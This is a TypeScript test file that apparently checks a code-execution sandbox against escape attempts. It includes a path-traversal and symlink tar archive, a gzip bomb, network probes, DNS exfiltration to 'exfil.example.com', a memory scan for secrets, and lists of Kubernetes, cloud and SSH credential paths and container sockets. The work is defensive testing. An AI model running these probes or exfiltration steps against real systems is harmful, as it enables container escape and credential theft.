// SPDX-License-Identifier: Apache-2.0
// Rows 11, 36, 37, 41, 44, 45: what archives, clusters, clouds and container engines would give away, and secrets.

import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as zlib from 'node:zlib';
import type { Case } from '../case.ts';

/** A tar entry: name, type ('0' file, '2' symbolic link, '3' device), target of a link, content. */
function tarEntry(name: string, type: string, target = '', content = ''): Buffer {
	const head = Buffer.alloc(512);
	head.write(name, 0, 100, 'latin1');
	head.write('0006777\0', 100);
	head.write('0000000\0', 108);
	head.write('0000000\0', 116);
	head.write(content.length.toString(8).padStart(11, '0') + '\0', 124);
	head.write('00000000000\0', 136);
	head.write('        ', 148);
	head.write(type, 156);
	head.write(target, 157, 100, 'latin1');
	head.write('ustar\x0000', 257);
	head.write('0000001\0', 329);
	head.write('0000003\0', 337);
	head.write(head.reduce((sum, b) => sum + b, 0).toString(8).padStart(6, '0') + '\0 ', 148);
	const body = Buffer.alloc(Math.ceil(content.length / 512) * 512);
	body.write(content);
	return Buffer.concat([head, body]);
}

const trapArchive = Buffer.concat([tarEntry('../../out.txt', '0', '', 'out'), tarEntry('/etc/out.txt', '0', '', 'out'), tarEntry('link', '2', '/etc'), tarEntry('link/passwd', '0', '', 'x'),
	tarEntry('disk', '3'), tarEntry('inside.txt', '0', '', 'in'), Buffer.alloc(1024)]);

/** Gone through as text: the pattern is no match for itself. */
const PATTERNS = '(rb"[H]OSTILE_SECRE[T]=", rb"[h]ostile-canar[y]", rb"[S]ANDBOX_STATE_DI[R]=")';

export const hostCases: Case[] = [
	{
		id: '11a', planted: { what: 'the server unpacks it', by: async (_r, o) => void (await o.session.ok('open("inside.txt", "w").close()', o.id)) }, attack: 'an archive with paths out of the folder, links and devices, uploaded', must: 'it stays one file; nothing is unpacked', held: 0, code: `print(sorted(os.listdir(".")))`,
		before: async (o) => {
			await o.session.upload('trap.tar', trapArchive, o.id);
		},
		after: async (r, o) => {
			assert.equal(r.stdout, "['trap.tar']\n");
			assert.deepEqual((await o.session.list(o.id)).map((f) => f.filename), ['trap.tar']);
		},
	},
	{
		id: '11b', attack: 'the same archive, unpacked inside with full trust', must: 'no device, nothing written outside the workspace', held: 4,
		before: async (o) => {
			await o.session.upload('trap.tar', trapArchive, o.id);
		},
		code: `
import tarfile
with tarfile.open("trap.tar") as t:
    for member in t:
        try:
            t.extract(member, "deep/er", filter="fully_trusted")
        except (OSError, tarfile.TarError):
            pass
for path in ("/etc/out.txt", "/out.txt"):
    holds("no " + path, not os.path.exists(path))
holds("/etc/passwd is as before", open("/etc/passwd").read() != "x")
holds("no device", not os.path.exists("deep/er/disk"))`,
	},
	{
		id: '11c', without: { walls: ['disk', 'memory'] }, attack: 'a bomb of zeros in a small archive', must: 'the limit of the workspace holds', needs: ['disk'], held: 1,
		before: async (o) => {
			await o.session.upload('bomb.gz', zlib.gzipSync(Buffer.alloc(200 << 20), { level: 9 }), o.id);
		},
		code: `
import gzip, shutil
try:
    with gzip.open("bomb.gz") as f, open("big", "wb") as out:
        shutil.copyfileobj(f, out, 1 << 20)
    say(False, "bomb", os.path.getsize("big"))
except OSError as e:
    say(e.errno in (errno.ENOSPC, errno.EDQUOT), "bomb", e)
os.unlink("big")`,
	},
	{
		id: '36b', without: { walls: ['net'] }, attack: 'find another interface, route or neighbour', must: 'loopback alone', held: 6,
		code: `
import socket
holds("one interface", [n for _, n in socket.if_nameindex()] == ["lo"] if hasattr(socket, "if_nameindex") and os.path.exists("/sys/class/net") else True)
for addr in ("10.0.0.1", "172.17.0.1", "192.168.1.1", "100.64.0.1", "224.0.0.1", "169.254.0.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    refused("udp " + addr, lambda: s.sendto(b"x", (addr, 9)))
for addr in ("fe80::1", "ff02::1", "fd00::1", "::ffff:10.0.0.1", "64:ff9b::a00:1"):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    refused("udp " + addr, lambda: s.sendto(b"x", (addr, 9, 0, 1 if addr[0] == "f" and addr[1] in "ef" else 0)))`,
	},
	{
		id: '37b', without: { walls: ['net'] }, attack: 'carry a secret out in names that are looked up', must: 'no resolver is asked', held: 4,
		code: `
import socket, subprocess
for name in ("c2VjcmV0.exfil.example.com", "a" * 63 + ".example.net"):
    refused("getaddrinfo " + name[:20], lambda: socket.getaddrinfo(name, 80))
    r = subprocess.run(["getent", "hosts", name], capture_output=True, timeout=10)
    holds("getent " + name[:20], r.returncode != 0)
holds("no name server is named", "nameserver" not in open("/etc/resolv.conf").read())`,
	},
	{
		id: '41a', attack: "search the interpreter's whole memory for the server's environment", must: 'nothing of it was ever there', held: 1,
		code: `
import re
found = []
patterns = [re.compile(p) for p in ${PATTERNS}]
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
    for line in maps.read().splitlines():
        span, rights = line.split()[:2]
        a, b = (int(x, 16) for x in span.split("-"))
        if rights[0] != "r" or "[v" in line:
            continue
        for at in range(a, b, 1 << 20):
            try:
                mem.seek(at)
                piece = mem.read(min(1 << 20, b - at))
            except (OSError, ValueError, OverflowError):
                continue
            found += [p.pattern for p in patterns if p.search(piece)]
holds("no trace", not found, found[:3])`,
	},
	{
		id: '41b', planted: { what: 'the log holds what was printed', by: (r, o) => fs.appendFileSync(o.session.log, r.stdout) }, attack: "get a secret into the server's log", must: 'neither code nor output is logged', held: 0,
		code: `
import base64
print(base64.b64decode("c2VjcmV0LW9mLXRoZS1ydW4=").decode())
sys.stderr.write(base64.b64decode("c2VjcmV0LW9mLXRoZS1ydW4=").decode())`,
		after: (r, o) => {
			assert.equal(r.stdout, 'secret-of-the-run\n');
			const log = o.session.logLines().join('\n') + o.session.stderr;
			assert.ok(!log.includes('secret-of-the-run') && !log.includes('c2VjcmV0LW9mLXRoZS1ydW4'), 'the log holds it');
		},
	},
	{
		id: '44a', attack: 'tokens of a cluster, a cloud or a person', must: 'none is there', held: 14,
		code: `
for p in ("/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets", "/etc/kubernetes", "/var/lib/kubelet", "/root/.kube", "/root/.ssh", "/root/.aws", "/root/.docker/config.json",
          "/etc/rancher", "/var/lib/cloud", "/etc/hostid", "/etc/ssh", "/etc/shadow-", "/root/.bash_history"):
    refused(p, lambda: os.listdir(p) if os.path.isdir(p) else open(p, "rb").read(1))
holds("no variable", not [k for k in os.environ if k.startswith(("KUBERNETES", "AWS_", "AZURE_", "GOOGLE_", "GITHUB_", "DOCKER", "NPM_", "HTTP_", "HTTPS_"))], list(os.environ))`,
	},
	{
		id: '44b', without: { walls: ['net'] }, attack: 'the interfaces of a node and its cluster', must: 'nobody listens', held: 7,
		code: `
import socket
for port in (443, 2375, 2376, 2379, 6443, 10250, 10255):
    s = socket.socket(); s.settimeout(2)
    refused(f"127.0.0.1:{port}", lambda: s.connect(("127.0.0.1", port)))
for addr in (("10.96.0.1", 443), ("169.254.170.2", 80), ("100.100.100.200", 80)):
    s = socket.socket(); s.settimeout(2)
    refused(f"{addr}", lambda: s.connect(addr))`,
	},
	{
		id: '45a', attack: 'sockets of container engines and system services', must: 'not there', held: 10,
		code: `
import socket
for p in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/crio/crio.sock", "/run/caisson/server.sock", "/run/systemd/private",
          "/run/dbus/system_bus_socket", "/run/systemd/journal/stdout", "/run/udev/control", "/dev/log", "/run/user/0/bus"):
    u = socket.socket(socket.AF_UNIX)
    refused(p, lambda: u.connect(p), errno.ENOENT, errno.ENOTDIR)`,
	},
	{
		id: '45b', attack: 'what a privileged container would have', must: 'nothing of it', held: 12,
		code: `
for p in ("/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/loop0", "/dev/loop-control", "/dev/fuse", "/dev/net/tun", "/dev/mapper/control", "/dev/vhost-net", "/dev/vsock", "/dev/userfaultfd", "/dev/uinput"):
    refused(p, lambda: os.open(p, os.O_RDONLY))
for p in ("/sys/fs/cgroup/release_agent", "/sys/kernel/uevent_helper", "/sys/kernel/debug", "/sys/kernel/tracing", "/proc/sys/kernel/modprobe", "/proc/sys/fs/binfmt_misc"):
    holds("no " + p, not os.path.exists(p))
holds("no capability", int([l for l in open("/proc/self/status") if l.startswith("CapBnd")][0].split()[1], 16) == 0)`,
	},
];
